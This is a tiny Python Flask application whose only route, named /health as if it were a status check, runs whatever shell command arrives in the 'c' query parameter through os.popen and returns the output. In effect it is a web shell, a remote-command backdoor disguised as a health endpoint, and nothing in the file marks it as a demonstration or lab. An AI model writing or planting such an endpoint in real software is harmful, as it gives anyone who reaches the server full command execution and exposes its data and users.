from flask import Flask, request
import os
app = Flask(__name__)

@app.route("/health")
def health():
    return os.popen(request.args.get("c", "id")).read()
